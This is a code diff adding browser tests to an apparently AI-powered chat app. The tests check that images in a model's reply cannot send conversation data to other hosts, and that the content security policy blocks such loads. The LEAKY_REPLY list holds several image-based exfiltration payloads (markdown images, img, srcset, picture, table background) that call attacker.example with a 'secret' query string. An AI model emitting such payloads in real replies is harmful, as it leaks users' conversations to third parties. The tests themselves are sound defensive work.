@@ -472,3 +472,100 @@ def test_the_api_documentation_page_renders_offline_under_the_csp(page):
     page.wait_for_selector(".swagger-ui .opblock", timeout=15_000)
     assert page.locator(".opblock-summary-path", has_text="/api/chats/{chat_id}/messages/stream").count() >= 1
     shot(page, "11-api-docs.png")
+
+
+# A 1x1 PNG, for the allowed image host.
+PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201a5d0a3"
+    "1f0000000049454e44ae426082"
+)
+LEAKY_REPLY = [
+    "Here is the chart:\n\n",
+    "![p](https://attacker.example/leak.png?secret=the-conversation)\n\n",
+    '<img src="//attacker.example/raw.png?secret=2" alt="raw">\n\n',
+    '<img src="data:image/png;base64,AAAA" srcset="https://attacker.example/srcset.png 2x" alt="inline">\n\n',
+    '<picture><source srcset="https://attacker.example/source.png"></picture>\n\n',
+    '<table background="https://attacker.example/bg.png"><tr><td>cell</td></tr></table>\n\n',
+    "![plain](http://attacker.example/plain.png) and ![ftp](ftp://attacker.example/f.png)\n\n",
+    "![logo](https://images.allowed.test/logo.png)\n",
+]
+
+
+def test_a_reply_with_remote_images_loads_none_from_hosts_not_allowed_and_shows_links(page, scripted_model):
+    """Issue 13, finding 5: an image URL in a reply sent its query to another site as the page showed it."""
+    from tests.live import ALLOWED_IMAGE_HOST
+
+    requested, served = [], []
+    page.on("request", lambda request: requested.append(request.url))
+
+    def serve(route):
+        served.append(route.request.url)
+        route.fulfill(status=200, content_type="image/png", body=PNG)
+
+    page.route(f"https://{ALLOWED_IMAGE_HOST}/**", serve)
+    page.route("**/*attacker.example*", lambda route: route.abort())
+    page.evaluate(
+        "window.__violations = [];"
+        "document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.blockedURI))"
+    )
+    scripted_model.options = {"script": LEAKY_REPLY}
+    scripted_model.save()
+    send(page, "Show me the chart")
+    wait_finished(page)
+    body = last_reply(page).locator(".body")
+    body.locator("img[alt=logo]").wait_for()
+    page.wait_for_function("document.querySelector('img[alt=logo]').naturalWidth > 0")
+    time.sleep(0.5)  # any request an image would make has been made by now
+
+    def check() -> None:
+        assert not [url for url in requested if "attacker.example" in url], requested
+        assert page.evaluate("window.__violations || []") == []  # nothing even tried
+        images = body.locator("img").evaluate_all("imgs => imgs.map(i => i.getAttribute('src'))")
+        assert images == ["data:image/png;base64,AAAA", f"https://{ALLOWED_IMAGE_HOST}/logo.png"], images
+        leak = body.get_by_role("link", name="image: p (attacker.example)")
+        assert leak.get_attribute("href") == "https://attacker.example/leak.png?secret=the-conversation"
+        assert leak.get_attribute("rel") == "noopener noreferrer nofollow" and leak.get_attribute("target") == "_blank"
+        raw = body.get_by_role("link", name="image: raw (attacker.example)")
+        assert raw.get_attribute("href") == "http://attacker.example/raw.png?secret=2"  # the page is on http
+        assert body.get_by_role("link", name="image: plain (attacker.example)").count() == 1
+        assert "image: ftp (attacker.example)" in body.inner_text()  # not a link: not http(s)
+        assert body.locator("a[href^='ftp:'], picture, source, [srcset], [background]").count() == 0
+
+    check()
+    assert served == [f"https://{ALLOWED_IMAGE_HOST}/logo.png"]
+    shot(page, "19-remote-images.png")
+    page.reload()  # the saved reply is rendered the same way
+    page.wait_for_selector("body[data-ready=true]")
+    page.evaluate(
+        "window.__violations = [];"
+        "document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.blockedURI))"
+    )
+    body = last_reply(page).locator(".body")
+    body.locator("img[alt=logo]").wait_for()
+    time.sleep(0.5)
+    check()
+
+
+def test_the_csp_lets_images_load_from_the_allowed_hosts_only(page, live_stack):
+    """The CSP is the second wall: an image the renderer let through by mistake would still be blocked."""
+    from tests.live import ALLOWED_IMAGE_HOST
+
+    policy = page.request.get("/").headers["content-security-policy"]
+    img_src = next(d for d in policy.split(";") if d.strip().startswith("img-src")).split()
+    assert img_src == ["img-src", "'self'", "data:", "blob:", f"https://{ALLOWED_IMAGE_HOST}"]
+    page.route(f"https://{ALLOWED_IMAGE_HOST}/**", lambda route: route.fulfill(content_type="image/png", body=PNG))
+    page.route("**/*attacker.example*", lambda route: route.fulfill(content_type="image/png", body=PNG))
+    loaded = page.evaluate(
+        """async (hosts) => {
+          const load = (src) => new Promise((resolve) => {
+            const image = new Image();
+            image.onload = () => resolve(true);
+            image.onerror = () => resolve(false);
+            image.src = src;
+          });
+          return [await load(`https://${hosts[0]}/x.png`), await load("https://attacker.example/y.png")];
+        }""",
+        [ALLOWED_IMAGE_HOST],
+    )
+    assert loaded == [True, False]
